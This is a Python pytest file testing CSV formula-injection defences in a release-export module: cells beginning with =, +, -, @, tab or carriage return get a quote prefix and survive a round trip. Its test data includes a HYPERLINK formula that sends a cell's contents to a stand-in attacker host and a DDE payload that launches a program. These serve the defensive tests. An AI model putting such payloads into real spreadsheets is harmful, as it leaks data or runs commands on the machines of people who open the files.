"""CSV cells never start a formula: the cell rule, and the releases export that imports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest

from triage_app.core.releases.release_csv import export_release_csv, parse_release_csv
from triage_app.core.replies.csv_cells import safe_cell, unquote_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    "value", [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"]
)
def test_formula_starts_get_a_quote(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert unquote_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["-5", "+1.5", "-2e3", "0.8", "in_scope", "'quoted", "", 7, None])
def test_numbers_and_ordinary_text_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value
    if isinstance(value, str):
        assert unquote_cell(value) == value


def test_release_names_are_defused_and_round_trip() -> None:
    text = (
        "product,version,release_date,name\n"
        f'prefect,3.4.7,2025-06-12,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n'
        "prefect,3.4.8,2025-06-20,@evil\n"
    )
    releases = parse_release_csv(text.encode())
    exported = export_release_csv(releases)
    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'" + HYPERLINK in cells
    assert parse_release_csv(exported.encode()) == releases
